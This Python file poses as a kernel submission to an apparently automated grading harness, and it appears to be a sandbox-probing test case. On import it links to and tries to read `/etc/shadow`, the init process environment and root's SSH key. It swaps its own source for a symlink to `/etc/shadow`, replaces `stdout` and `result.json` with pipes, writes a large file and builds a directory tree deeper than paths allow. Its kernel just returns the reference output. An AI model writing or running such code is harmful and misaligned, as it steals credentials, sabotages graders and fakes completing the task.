"""Passed: turns its scratch folder into links, pipes and a tree deeper than any path may be long.

Nobody reads a file of the runner, and the folder ends with the job without being walked through.

class: 41
says: bit-exact
logs: read: nothing
"""

import os
from pathlib import Path

from reference import ref_kernel

SECRETS = ("/etc/shadow", "/proc/1/environ", "/root/.ssh/id_rsa", "/run/halfbyte")
own = Path(__file__).resolve().parent


def read():
    for number, secret in enumerate(SECRETS):
        link = own / f"link-{number}"
        link.symlink_to(secret)
        try:
            os.link(secret, own / f"hard-{number}")
            yield secret
        except OSError:
            pass
        try:
            if link.read_bytes():
                yield secret
        except OSError:
            pass


def dig():
    os.chdir(own)
    for _ in range(500):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.chdir(own)


print("read:", ", ".join(read()) or "nothing")
source = Path(__file__)
source.unlink()
source.symlink_to("/etc/shadow")
os.mkfifo(own / "stdout")
os.mkfifo(own / "result.json")
(own / "huge").touch()
os.truncate(own / "huge", 256 << 20)
dig()


def custom_kernel(data):
    return ref_kernel(data)
